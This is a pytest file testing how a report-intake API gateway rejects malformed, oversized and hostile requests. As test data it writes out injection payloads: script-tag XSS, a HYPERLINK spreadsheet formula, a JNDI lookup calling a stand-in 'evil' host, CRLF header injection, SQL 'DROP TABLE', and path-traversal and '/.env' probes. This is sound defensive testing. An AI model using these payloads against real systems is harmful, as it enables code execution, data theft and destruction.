@@ -1,0 +1,552 @@
+"""What nobody means well with, each in its numbered case (A: bodies, B: headers, methods and paths, D: ids and receipts).
+
+All go through the gateway as it is deployed. Whatever is refused is problem+json in the one shape, says nothing back, and leaves no row.
+"""
+
+import json
+import re
+from collections.abc import Mapping
+from dataclasses import dataclass
+from datetime import timedelta
+from typing import Any
+
+import boto3
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from jsonschema import Draft202012Validator
+
+from chalicelib import wiring
+from chalicelib.domain import times
+from chalicelib.handlers.docs import DOCUMENT
+from infra.local.gateway import Gateway
+from tests.client import app, new_key, report
+
+pytestmark = pytest.mark.usefixtures("aws", "clean")
+
+gateway = Gateway(app)
+PROBLEM = Draft202012Validator(json.loads(DOCUMENT.read_text(encoding="utf-8"))["components"]["schemas"]["Problem"])
+# In every refused input somewhere; in no answer ever.
+CANARY = "canary-4471"
+JSON = {"Content-Type": "application/json"}
+
+
+@dataclass(frozen=True, slots=True)
+class Reply:
+    status: int
+    headers: Mapping[str, str]
+    body: bytes
+
+    @property
+    def json(self) -> Any:
+        return json.loads(self.body)
+
+    @property
+    def wrong_fields(self) -> set[str]:
+        return {error["field"] for error in self.json.get("errors", [])}
+
+
+def send(method: str, target: str, body: bytes = b"", headers: Mapping[str, str] | None = None) -> Reply:
+    answer = gateway.answer(method, target, list((headers or {}).items()), body, "203.0.113.77")
+    return Reply(answer.status, {name.lower(): value for name, value in answer.headers}, answer.body)
+
+
+def create(body: bytes, **headers: str) -> Reply:
+    return send("POST", "/v1/reports", body, JSON | {"Idempotency-Key": new_key()} | {k.replace("_", "-"): v for k, v in headers.items()})
+
+
+def create_json(**more: Any) -> Reply:
+    return create(json.dumps(report(**more)).encode("utf-8", "surrogatepass"))
+
+
+def filed(**more: Any) -> Any:
+    reply = create_json(**more)
+    assert reply.status == 201, reply.body
+    return reply.json
+
+
+def as_reporter(receipt: str) -> dict[str, str]:
+    return {"Authorization": f"Receipt {receipt}"}
+
+
+def assert_refused(reply: Reply, status: int) -> None:
+    """The one shape, the headers that every answer has, and nothing of what was sent."""
+    assert reply.status == status, reply.body
+    assert reply.headers["content-type"] == "application/problem+json"
+    assert reply.headers["cache-control"] == "no-store"
+    assert reply.headers["x-content-type-options"] == "nosniff"
+    assert reply.headers["x-request-id"] == reply.json["request_id"]
+    assert [error.message for error in PROBLEM.iter_errors(reply.json)] == []
+    assert reply.json["status"] == status
+    assert CANARY not in reply.body.decode() + str(reply.headers)
+    assert not re.search(r"Traceback|pydantic|File \"", reply.body.decode())
+
+
+def rows(aws: Mapping[str, str]) -> int:
+    dynamodb = boto3.client("dynamodb")
+    return sum(dynamodb.scan(TableName=table, Select="COUNT")["Count"] for name, table in aws.items() if name.endswith("_TABLE"))
+
+
+def raw(**members: str) -> bytes:
+    """A body whose members are given as JSON text."""
+    whole = {"category": '"other"', "text": f'"{CANARY}"'} | members
+    return ("{" + ",".join(f'"{name}":{value}' for name, value in whole.items()) + "}").encode()
+
+
+UNREADABLE = {
+    "1 nothing": b"",
+    "4 something after the end": raw() + b"x",
+    "5 nested 100,000 deep": b"[" * 100_000,
+    "5 nested 100,000 deep in a member": raw(details="[" * 100_000 + "]" * 100_000),
+    "6 an integer of 5,000 digits": raw(details='{"plate":' + "9" * 5000 + "}"),
+    "7 NaN": raw(location='{"lat":NaN,"lon":1}'),
+    "7 -Infinity": raw(location='{"lat":-Infinity,"lon":1}'),
+    "9 a name twice": b'{"category":"other","text":"a","text":"b"}',
+    "9 a name twice, deeper": raw(location='{"lat":1,"lon":1,"lat":2}'),
+    "9 a name twice, once escaped": b'{"category":"other","text":"a","te\\u0078t":"b"}',
+    "10 a byte order mark": b"\xef\xbb\xbf" + raw(),
+    "11 not UTF-8": b'{"category":"other","text":"\xff\xfe"}',
+    "11 a surrogate in UTF-8": b'{"category":"other","text":"\xed\xa0\x80"}',
+    "12 UTF-16 that calls itself JSON": raw().decode().encode("utf-16"),
+    "13 a lone surrogate": b'{"category":"other","text":"\\ud800"}',
+    "13 a lone surrogate in a name": b'{"category":"other","text":"a","\\udc00":1}',
+}
+
+
+@pytest.mark.parametrize("body", UNREADABLE.values(), ids=UNREADABLE.keys())
+def test_a_body_that_cannot_be_read_is_400(body: bytes, aws: Mapping[str, str]) -> None:
+    assert_refused(create(body), 400)
+    assert rows(aws) == 0
+
+
+MEDIUM = {"content_type": "image/jpeg", "size": 1000}
+# Case: the members sent over those of a good report, and the field that must be named.
+INVALID: dict[str, tuple[dict[str, Any], str]] = {
+    "14 NUL": ({"text": "a\0b"}, "text"),
+    "15 spaces only": ({"text": "  \t\n "}, "text"),
+    "15 zero-width only": ({"text": "\u200b\u200d\ufeff"}, "text"),
+    "15 nothing in it": ({"text": ""}, "text"),
+    "16 bidi override": ({"text": f"{CANARY} \u202e gpj.exe"}, "text"),
+    "16 bidi isolate": ({"text": "a\u2066b"}, "text"),
+    "17 4,001 characters": ({"text": "a" * 4001}, "text"),
+    "21 a status": ({"status": "CLOSED"}, "status"),
+    "22 an assignee": ({"assignee": CANARY}, "assignee"),
+    "22 a version": ({"version": 9}, "version"),
+    "22 a key of the table": ({"pk": CANARY}, "pk"),
+    "22 a time to live": ({"ttl": 1}, "ttl"),
+    "22 a receipt's hash": ({"receipt_hash": CANARY}, "receipt_hash"),
+    "22 a source, which is officers' to say": ({"source": "desk"}, "source"),
+    "23 true for an integer": ({"media": [MEDIUM | {"size": True}]}, "media.0.size"),
+    "24 a string for an integer": ({"media": [MEDIUM | {"size": "5"}]}, "media.0.size"),
+    "24 a string for a number": ({"location": {"lat": "39.9", "lon": 116}}, "location.lat"),
+    "24 a number for a text": ({"text": 5}, "text"),
+    "24 a list for a text": ({"text": [CANARY]}, "text"),
+    "25 a space after the category": ({"category": "child_abduction "}, "category"),
+    "25 a category in capitals": ({"category": "CHILD_ABDUCTION"}, "category"),
+    "25 a Cyrillic letter in it": ({"category": "child_\u0430bduction"}, "category"),
+    "25 no letter in it": ({"category": ""}, "category"),
+    "25 null": ({"category": None}, "category"),
+    "26 lat 90.0001": ({"location": {"lat": 90.0001, "lon": 0}}, "location.lat"),
+    "26 lon -181": ({"location": {"lat": 0, "lon": -181}}, "location.lon"),
+    "26 lat alone": ({"location": {"lat": 1}}, "location.lon"),
+    "26 an unknown datum": ({"location": {"lat": 1, "lon": 1, "datum": CANARY}}, "location.datum"),
+    "26 less than no accuracy": ({"location": {"lat": 1, "lon": 1, "accuracy_m": -1}}, "location.accuracy_m"),
+    "27 the year 9999": ({"occurred_at": "9999-12-31T23:59:59Z"}, "occurred_at"),
+    "27 before 1970": ({"occurred_at": "1969-12-31T23:59:59Z"}, "occurred_at"),
+    "27 30 February": ({"occurred_at": "2026-02-30T00:00:00Z"}, "occurred_at"),
+    "27 a leap second": ({"occurred_at": "2016-12-31T23:59:60Z"}, "occurred_at"),
+    "27 no zone": ({"occurred_at": "2026-11-24T08:30:00"}, "occurred_at"),
+    "27 a number": ({"occurred_at": 1764000000}, "occurred_at"),
+    "33 __proto__": ({"__proto__": {"admin": True}}, "__proto__"),
+    "33 __class__": ({"__class__": CANARY}, "__class__"),
+    "33 constructor in the details": ({"details": {"constructor": CANARY}}, "details.constructor"),
+    "34 six media": ({"media": [MEDIUM] * 6}, "media"),
+    "35 no bytes": ({"media": [MEDIUM | {"size": 0}]}, "media.0.size"),
+    "35 less than no bytes": ({"media": [MEDIUM | {"size": -1}]}, "media.0.size"),
+    "35 2 to the 63 bytes": ({"media": [MEDIUM | {"size": 2**63}]}, "media.0.size"),
+    "35 a picture over 25 MiB": ({"media": [MEDIUM | {"size": 25 * 2**20 + 1}]}, "media.0.size"),
+    "36 SVG": ({"media": [MEDIUM | {"content_type": "image/svg+xml"}]}, "media.0.content_type"),
+    "36 HTML": ({"media": [MEDIUM | {"content_type": "text/html"}]}, "media.0.content_type"),
+    "36 TIFF": ({"media": [MEDIUM | {"content_type": "image/tiff"}]}, "media.0.content_type"),
+    "36 a type in capitals with a parameter": ({"media": [MEDIUM | {"content_type": "image/JPEG; a=b"}]}, "media.0.content_type"),
+    "36 a sha256 of 63 digits": ({"media": [MEDIUM | {"sha256": "a" * 63}]}, "media.0.sha256"),
+    "37 a name for the file": ({"media": [MEDIUM | {"filename": f"../../{CANARY}"}]}, "media.0.filename"),
+    # There is no such field in the contract: a client that fills it in is told so like any other.
+    "38 a field that only a robot fills in": ({"website": CANARY}, "website"),
+    "39 a contact's name over 100": ({"contact": {"name": "n" * 101}}, "contact.name"),
+    "39 a contact over 1 KB": ({"contact": {"email": f"{CANARY}@{'e' * 1024}.cn"}}, "contact.email"),
+    "39 a phone of words": ({"contact": {"phone": f"{CANARY} call me"}}, "contact.phone"),
+    "39 an address without @": ({"contact": {"email": CANARY}}, "contact.email"),
+    "39 a contact without anything": ({"contact": {}}, "contact"),
+    "39 a contact that is a list": ({"contact": [CANARY]}, "contact"),
+    "a bulletin that there is not": ({"bulletin_id": CANARY}, "bulletin_id"),
+}
+
+
+@pytest.mark.parametrize(("members", "field"), INVALID.values(), ids=INVALID.keys())
+def test_what_is_readable_but_wrong_is_422_and_names_the_field(members: dict[str, Any], field: str, aws: Mapping[str, str]) -> None:
+    reply = create_json(**members)
+
+    assert_refused(reply, 422)
+    assert field in reply.wrong_fields
+    assert rows(aws) == 0
+
+
+@pytest.mark.parametrize(
+    "body", [b"null", b"[]", b'"text"', b"5", b"true"], ids=["2 null", "3 a list", "3 a string", "3 a number", "3 true"]
+)
+def test_what_is_not_an_object_is_422(body: bytes, aws: Mapping[str, str]) -> None:
+    assert_refused(create(body), 422)
+    assert rows(aws) == 0
+
+
+@pytest.mark.parametrize(
+    "body",
+    [raw(location='{"lat":1e999,"lon":1}'), raw(location='{"lat":1,"lon":-1e999}'), raw(details='{"plate":1e999}')],
+    ids=["8 lat 1e999", "8 lon -1e999", "8 1e999 in the details"],
+)
+def test_a_number_beyond_all_numbers_is_422(body: bytes, aws: Mapping[str, str]) -> None:
+    assert_refused(create(body), 422)
+    assert rows(aws) == 0
+
+
+def test_27_a_time_a_day_ahead_is_taken_and_flagged_and_one_further_ahead_is_not(aws: Mapping[str, str]) -> None:
+    now = wiring.now()
+    assert_refused(create_json(occurred_at=times.render(now + timedelta(hours=25))), 422)
+    assert rows(aws) == 0
+    assert filed(occurred_at=times.render(now + timedelta(hours=23)))["flags"] == ["clock_skew"]
+
+
+def test_every_wrong_field_is_named_at_once() -> None:
+    reply = create_json(category="x", location={"lat": 91, "lon": 181}, media=[MEDIUM | {"size": 0}])
+    assert reply.wrong_fields == {"category", "location.lat", "location.lon", "media.0.size"}
+
+
+def test_a_made_up_field_name_is_not_repeated_unless_it_is_a_plain_word() -> None:
+    reply = create_json(**{f"<script>{CANARY}</script>": 1})
+    assert_refused(reply, 422)
+
+
+@pytest.mark.parametrize(
+    ("size", "status"), [(256 * 1024, 422), (257 * 1024, 413), (10 * 2**20 + 1, 413)], ids=["256 KiB", "19 257 KiB", "20 10 MiB"]
+)
+def test_a_body_may_have_256_kib(size: int, status: int, aws: Mapping[str, str]) -> None:
+    if size > 10 * 2**20:
+        assert_refused(as_reply(gateway.refuse("REQUEST_TOO_LARGE")), status)
+        return
+    body = raw(text='"' + "a" * (size - len(raw(text='""'))) + '"')
+    assert len(body) == size
+    assert_refused(create(body), status)
+    assert rows(aws) == 0
+
+
+VERBATIM = {
+    "18 4,000 emoji": "\U0001f692" * 4000,
+    "28 HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "29 a formula": '=HYPERLINK("http://evil") @SUM(1)',
+    "30 a look-up": "${jndi:ldap://evil/a} {{7*7}} %s%n {0}",
+    "31 line breaks": "a\r\nSet-Cookie: a=b\n\nb",
+    "32 a query": '{"S":"x"} #pk :v attribute_exists(pk)',
+    "quotes": "'\"; DROP TABLE reports; --",
+}
+
+
+@pytest.mark.parametrize("text", VERBATIM.values(), ids=VERBATIM.keys())
+def test_text_is_kept_as_it_is_and_comes_back_only_as_json(text: str) -> None:
+    created = filed(text=text)
+    view = send("GET", "/v1/reports/mine", headers=as_reporter(created["receipt"]))
+
+    assert view.json["text"] == text
+    assert view.headers["content-type"] == "application/json"
+    assert view.headers["x-content-type-options"] == "nosniff"
+
+
+@pytest.mark.parametrize("text", VERBATIM.values(), ids=VERBATIM.keys())
+def test_what_was_written_makes_no_line_in_a_log(text: str, caplog: pytest.LogCaptureFixture) -> None:
+    with caplog.at_level("DEBUG", "chalicelib"):
+        filed(text=f"{CANARY} {text}"[:4000])
+    assert CANARY not in caplog.text
+    assert CANARY not in str([record.__dict__ for record in caplog.records])
+
+
+def test_32_details_that_look_like_a_query_are_not_interpreted(aws: Mapping[str, str]) -> None:
+    assert_refused(create_json(details={"#pk": {"S": CANARY}, ":v": CANARY}), 422)
+    assert rows(aws) == 0
+
+
+def test_40_the_two_normal_forms_of_a_text_are_the_same_report() -> None:
+    key = new_key()
+    composed, decomposed = (
+        send("POST", "/v1/reports", json.dumps(report(text=text)).encode(), JSON | {"Idempotency-Key": key})
+        for text in ("caf\u00e9 \uac00", "cafe\u0301 \u1100\u1161")
+    )
+    assert (composed.status, decomposed.status) == (201, 200)
+    assert composed.json["id"] == decomposed.json["id"]
+
+
+MESSAGES: dict[str, tuple[bytes, int]] = {
+    "1 nothing": (b"", 400),
+    "2 null": (b"null", 422),
+    "3 a list": (b"[]", 422),
+    "5 nested": (b'{"text":' + b"[" * 100_000, 400),
+    "7 NaN": (b'{"text":NaN}', 400),
+    "9 a name twice": (b'{"text":"a","text":"b"}', 400),
+    "10 a byte order mark": (b'\xef\xbb\xbf{"text":"a"}', 400),
+    "13 a lone surrogate": (b'{"text":"\\ud800"}', 400),
+    "14 NUL": (b'{"text":"\\u0000"}', 422),
+    "15 blank": (b'{"text":" \\u200b "}', 422),
+    "16 bidi override": (b'{"text":"\\u202e"}', 422),
+    "17 4,001 characters": (b'{"text":"' + b"a" * 4001 + b'"}', 422),
+    "19 257 KiB": (b'{"text":"' + b"a" * 257 * 1024 + b'"}', 413),
+    "21 a sender": (b'{"text":"a","sender":"officer"}', 422),
+    "22 an author": (b'{"text":"a","by":"wang"}', 422),
+    "24 a number": (b'{"text":5}', 422),
+    "no text": (b"{}", 422),
+}
+
+
+@pytest.mark.parametrize(("body", "status"), MESSAGES.values(), ids=MESSAGES.keys())
+def test_a_message_is_read_as_strictly_as_a_report(body: bytes, status: int, aws: Mapping[str, str]) -> None:
+    created = filed()
+    before = rows(aws)
+    reply = send("POST", f"/v1/reports/{created['id']}/messages", body, JSON | as_reporter(created["receipt"]))
+
+    assert_refused(reply, status)
+    assert rows(aws) == before
+
+
+PARTS: dict[str, tuple[bytes, int]] = {
+    "no list": (b"{}", 422),
+    "nine numbers": (b'{"numbers":[1,2,3,4,5,6,7,8,9]}', 422),
+    "23 true for a number": (b'{"numbers":[true]}', 422),
+    "24 a string for a number": (b'{"numbers":["1"]}', 422),
+    "part 0": (b'{"numbers":[0]}', 422),
+    "a part too many": (b'{"numbers":[4]}', 422),
+    "6 a number of 5,000 digits": (b'{"numbers":[' + b"9" * 5000 + b"]}", 400),
+    "2 to the 63": (b'{"numbers":[9223372036854775808]}', 422),
+}
+
+
+@pytest.mark.parametrize(("body", "status"), PARTS.values(), ids=PARTS.keys())
+def test_numbers_of_parts_are_whole_numbers_that_the_upload_has(body: bytes, status: int) -> None:
+    created = filed(media=[{"content_type": "video/mp4", "size": 17 * 2**20}])
+    address = f"/v1/reports/{created['id']}/media/{created['uploads'][0]['media_id']}/parts"
+
+    assert_refused(send("POST", address, body, JSON | as_reporter(created["receipt"])), status)
+
+
+KEYS = {
+    "41 none": None,
+    "41 nothing in it": "",
+    "42 not random": "6ba7b810-9dad-11d1-80b4-00c04fd430c8",
+    "42 all zeros": "00000000-0000-0000-0000-000000000000",
+    "42 too short": "12345",
+    "42 10 KB": "a" * 10_000,
+    "42 not ASCII": "f47ac10b-58cc-4372-a567-0e02b2c3d47\u0664",
+    "42 in braces": "{f47ac10b-58cc-4372-a567-0e02b2c3d479}",
+    "42 without dashes": "f47ac10b58cc4372a5670e02b2c3d479",
+    "42 two of them": "f47ac10b-58cc-4372-a567-0e02b2c3d479, f47ac10b-58cc-4372-a567-0e02b2c3d478",
+}
+
+
+@pytest.mark.parametrize("key", KEYS.values(), ids=KEYS.keys())
+def test_a_key_that_is_not_a_random_uuid_is_400(key: str | None, aws: Mapping[str, str]) -> None:
+    headers = JSON | ({"Idempotency-Key": key} if key is not None else {})
+    assert_refused(send("POST", "/v1/reports", json.dumps(report(text=CANARY)).encode(), headers), 400)
+    assert rows(aws) == 0
+
+
+def test_43_a_key_used_for_another_body_is_409_and_gives_nothing_away() -> None:
+    key = new_key()
+    first = send("POST", "/v1/reports", json.dumps(report(text=CANARY)).encode(), JSON | {"Idempotency-Key": key})
+    reply = send("POST", "/v1/reports", json.dumps(report(text="another")).encode(), JSON | {"Idempotency-Key": key})
+
+    assert_refused(reply, 409)
+    assert reply.json["code"] == "key_reused"
+    assert all(str(first.json[name]) not in reply.body.decode() for name in ("id", "reference", "receipt"))
+
+
+TYPES = {
+    "44 text/html": {"Content-Type": "text/html"},
+    "44 a form": {"Content-Type": "application/x-www-form-urlencoded"},
+    "44 a type that begins like JSON": {"Content-Type": "application/jsonp"},
+    "45 none": {},
+    "46 UTF-16": {"Content-Type": "application/json;charset=utf-16"},
+    "46 two sets of characters": {"Content-Type": "application/json; charset=utf-8; charset=utf-16"},
+    "47 gzip": {"Content-Type": "application/json", "Content-Encoding": "gzip"},
+    "47 gzip twice": {"Content-Type": "application/json", "Content-Encoding": "gzip, gzip"},
+}
+
+
+@pytest.mark.parametrize("headers", TYPES.values(), ids=TYPES.keys())
+def test_a_body_that_is_not_plain_json_is_415(headers: dict[str, str], aws: Mapping[str, str]) -> None:
+    body = json.dumps(report(text=CANARY)).encode()
+    assert_refused(send("POST", "/v1/reports", body, headers | {"Idempotency-Key": new_key()}), 415)
+    assert rows(aws) == 0
+
+
+@pytest.mark.parametrize("kind", ["application/json", "Application/JSON; Charset=UTF-8", 'application/json;charset="utf-8"'])
+def test_json_in_utf_8_may_be_spelt_in_its_ways(kind: str) -> None:
+    headers = {"Content-Type": kind, "Idempotency-Key": new_key()}
+    assert send("POST", "/v1/reports", json.dumps(report()).encode(), headers).status == 201
+
+
+def test_48_where_a_request_came_from_is_kept_nowhere(aws: Mapping[str, str]) -> None:
+    claims = {"X-Forwarded-For": CANARY, "Forwarded": f"for={CANARY}", "User-Agent": CANARY, "Via": CANARY, "X-Request-Id": CANARY}
+    created = create(json.dumps(report()).encode(), **{name.replace("-", "_"): value for name, value in claims.items()})
+
+    assert created.status == 201
+    assert CANARY not in str(created)
+    dynamodb = boto3.client("dynamodb")
+    kept = str([dynamodb.scan(TableName=table)["Items"] for name, table in aws.items() if name.endswith("_TABLE")])
+    assert CANARY not in kept
+    assert "203.0.113.77" not in kept
+
+
+@pytest.mark.parametrize("header", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
+def test_49_a_method_in_a_header_is_ignored(header: str) -> None:
+    receipt = filed()["receipt"]
+    assert send("GET", "/v1/reports/mine", headers=as_reporter(receipt) | {header: "DELETE"}).json["status"] == "received"
+    assert send("GET", "/v1/reports/mine", headers=as_reporter(receipt)).json["status"] == "received"
+
+
+def test_50_a_foreign_page_gets_no_leave_to_read() -> None:
+    for method, target in (("GET", "/v1/catalogue"), ("GET", "/v1/reports/mine"), ("OPTIONS", "/v1/reports")):
+        reply = send(method, target, headers={"Origin": f"https://{CANARY}", "Host": CANARY})
+        assert not [name for name in reply.headers if name.startswith("access-control")]
+        assert CANARY not in str(reply)
+
+
+@pytest.mark.parametrize("method", ["TRACE", "PUT", "CONNECT", "PROPFIND", "FOO", "delete"])
+def test_51_a_method_that_a_route_does_not_take_is_refused(method: str, aws: Mapping[str, str]) -> None:
+    # The gateway does not tell a method from a path it does not know: 404, as an unknown path is.
+    assert_refused(send(method, "/v1/reports", json.dumps(report(text=CANARY)).encode(), JSON | {"Idempotency-Key": new_key()}), 404)
+    assert rows(aws) == 0
+
+
+IDS = {
+    "54 out of the folder": "%2e%2e%2fofficer",
+    "54 NUL": "%00",
+    "54 encoded twice": "%252e%252e%252f",
+    "54 a dot at the end": "mine.",
+    "54 a slash in it": "a%2Fb",
+    "54 not UTF-8": "%ff%fe",
+    "54 a hundred percent": "100%25",
+    "54 a percent alone": "%",
+    "89 too short": "A",
+    "89 too long": "A" * 5000,
+    "89 another key of the table": "X%23CONTACT",
+    "89 a line break": "%0d%0aSet-Cookie:a=b",
+    "89 of other letters": "%E5%85%B3",
+}
+ROUTES = (("GET", ""), ("POST", "/messages"), ("POST", "/media"), ("DELETE", ""))
+
+
+@pytest.mark.parametrize(("method", "rest"), ROUTES)
+@pytest.mark.parametrize("report_id", IDS.values(), ids=IDS.keys())
+def test_an_id_that_cannot_be_one_is_404(report_id: str, method: str, rest: str) -> None:
+    receipt = filed()["receipt"]
+    body = {"/messages": b'{"text":"a"}', "/media": b'{"media":[{"content_type":"image/jpeg","size":1}]}'}.get(rest, b"")
+    assert_refused(send(method, f"/v1/reports/{report_id}{rest}", body, JSON | as_reporter(receipt)), 404)
+
+
+@pytest.mark.parametrize(
+    "target", ["/", "//v1/health", "/v1/health/", "/V1/health", "/v1/%68ealth", "/v1/reports/mine/", "/.env", "/v1/../v1/health"]
+)
+def test_54_a_path_is_known_as_it_is_written_or_not_at_all(target: str) -> None:
+    assert_refused(send("GET", target), 404)
+
+
+def test_55_a_range_is_ignored() -> None:
+    ranges = "bytes=" + ",".join("0-0" for _ in range(1000))
+    assert send("GET", "/v1/health", headers={"Range": ranges}).status == 200
+
+
+@pytest.mark.parametrize("accept", ["text/html", "application/xml", "*/*;q=0", "application/json"])
+def test_56_the_answer_is_json_whatever_is_asked_for(accept: str) -> None:
+    reply = send("GET", "/v1/health", headers={"Accept": accept})
+    assert (reply.status, reply.headers["content-type"], reply.json["status"]) == (200, "application/json", "ok")
+
+
+def test_an_accept_language_of_10_kb_is_only_a_language() -> None:
+    assert_refused(send("GET", "/v1/reports/mine", headers={"Accept-Language": f"{CANARY}," * 900}), 401)
+
+
+CREDENTIALS = {
+    "none": None,
+    "nothing in it": "",
+    "the word alone": "Receipt",
+    "the word and spaces": "Receipt   ",
+    "another scheme": f"Basic {CANARY}",
+    "a token": f"Bearer {CANARY}",
+}
+
+
+@pytest.mark.parametrize("authorization", CREDENTIALS.values(), ids=CREDENTIALS.keys())
+@pytest.mark.parametrize(("method", "target"), [("GET", "/v1/reports/mine"), ("GET", "/v1/reports/X"), ("DELETE", "/v1/reports/X")])
+def test_without_a_receipt_it_is_401(method: str, target: str, authorization: str | None) -> None:
+    reply = send(method, target, headers={"Authorization": authorization} if authorization is not None else {})
+    assert_refused(reply, 401)
+    assert reply.headers["www-authenticate"]
+
+
+def test_94_whatever_is_wrong_about_id_or_receipt_the_answer_is_the_same() -> None:
+    mine, other = filed(), filed(text="another")
+    flipped = ("0" if mine["receipt"][0] != "0" else "1") + mine["receipt"][1:]
+    attempts = {
+        "no such report": (f"/v1/reports/{'Z' * 26}", mine["receipt"]),
+        "another's report": (f"/v1/reports/{other['id']}", mine["receipt"]),
+        "another's receipt": (f"/v1/reports/{mine['id']}", other["receipt"]),
+        "one digit wrong": (f"/v1/reports/{mine['id']}", flipped),
+        "the id as receipt": (f"/v1/reports/{mine['id']}", mine["id"]),
+        "the reference as receipt": (f"/v1/reports/{mine['id']}", mine["reference"]),
+        "10 KB": (f"/v1/reports/{mine['id']}", "A" * 10_000),
+        "a full-width digit": (f"/v1/reports/{mine['id']}", "\uff10" + mine["receipt"][1:]),
+        "a U": (f"/v1/reports/{mine['id']}", "U" + mine["receipt"][1:]),
+    }
+    seen = set()
+    for target, receipt in attempts.values():
+        reply = send("GET", target, headers=as_reporter(receipt))
+        assert_refused(reply, 404)
+        seen.add(json.dumps(reply.json | {"request_id": ""}))
+    assert len(seen) == 1
+
+
+def test_94_a_receipt_is_read_as_people_write_it() -> None:
+    created = filed()
+    receipt = created["receipt"]
+    spelt = receipt.lower().replace("0", "o").replace("1", "l")
+    for written in (receipt.lower(), "-".join(receipt[i : i + 4] for i in range(0, 26, 4)), f" {receipt[:13]} {receipt[13:]} ", spelt):
+        for scheme in ("Receipt", "receipt", "RECEIPT"):
+            reply = send("GET", f"/v1/reports/{created['id']}", headers={"Authorization": f"{scheme} {written}"})
+            assert reply.status == 200, written
+
+
+NESTED = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=12), inner, max_size=3),
+    max_leaves=8,
+)
+FIELDS = ("category", "text", "occurred_at", "location", "details", "bulletin_id", "contact", "media", "lat", "lon", "size", "status")
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(st.dictionaries(st.sampled_from(FIELDS) | st.text(max_size=12), NESTED, max_size=5), st.booleans())
+def test_whatever_is_sent_the_answer_is_a_report_or_a_refusal_in_the_one_shape(body: dict[str, Any], well_begun: bool) -> None:
+    content = (report() if well_begun else {}) | body
+    reply = create(json.dumps(content).encode("utf-8", "surrogatepass"))
+
+    assert reply.status in (201, 400, 422), reply.body
+    if reply.status != 201:
+        assert [error.message for error in PROBLEM.iter_errors(reply.json)] == []
+
+
+@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(st.binary(max_size=200), st.integers(0, 200))
+def test_bytes_at_random_in_a_good_body_are_never_our_fault(noise: bytes, at: int) -> None:
+    good = json.dumps(report()).encode()
+    assert create(good[:at] + noise + good[at:]).status in (201, 400, 413, 422)
+
+
+def as_reply(answer: Any) -> Reply:
+    return Reply(answer.status, {name.lower(): value for name, value in answer.headers}, answer.body)
